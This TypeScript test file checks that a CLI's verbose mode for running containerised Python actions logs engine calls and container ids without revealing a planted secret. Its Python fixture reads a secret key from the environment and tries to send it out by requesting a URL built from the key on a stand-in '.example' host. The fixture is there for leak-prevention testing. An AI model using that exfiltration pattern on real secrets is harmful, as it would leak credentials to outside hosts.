import { guruActions, temporaryFolder } from '../../cli/command';
import './harness';

const path = temporaryFolder();
const SECRET = 'planted-s3cret-value';
const CODE = `import os
key = os.environ["KEY"]
print(key)
try:
    __import__("urllib.request").request.urlopen("http://" + key + ".example", timeout=2)
except OSError:
    pass
raise SystemExit(3)`;

test('--verbose tells a real run by ids and times, and no secret that its code printed or looked up', async () => {
	const action = path(
		'action.json',
		JSON.stringify({
			name: 'Leaks',
			condition_prompt: 'When the user asks for a leak',
			action_type: 'PYTHON_CODE',
			config: { code: CODE, secrets: ['KEY'] },
		}),
	);
	const secrets = path('secrets.json', JSON.stringify({ KEY: SECRET }));
	const quiet = await guruActions('run', action, '--secrets', secrets);
	expect(quiet.stderr).not.toContain('debug: ');

	const { code, stdout, stderr } = await guruActions('run', action, '--secrets', secrets, '--verbose');
	expect({ code, ran: stdout.includes('KEY') }).toEqual({ code: 1, ran: true });
	expect(stderr).toMatch(
		/^debug: The engine answered method="POST" path="\/containers\/create" status="[\d|]+" ms=\d+$/m,
	);
	const [, container] =
		/^debug: A run ended container="([0-9a-f]{12})" end="raised" .*ms=\d+$/m.exec(stderr) ?? [];
	expect(stderr).toContain(`path="/containers/${container}/start"`);
	expect(stdout + stderr).not.toContain(SECRET);
});
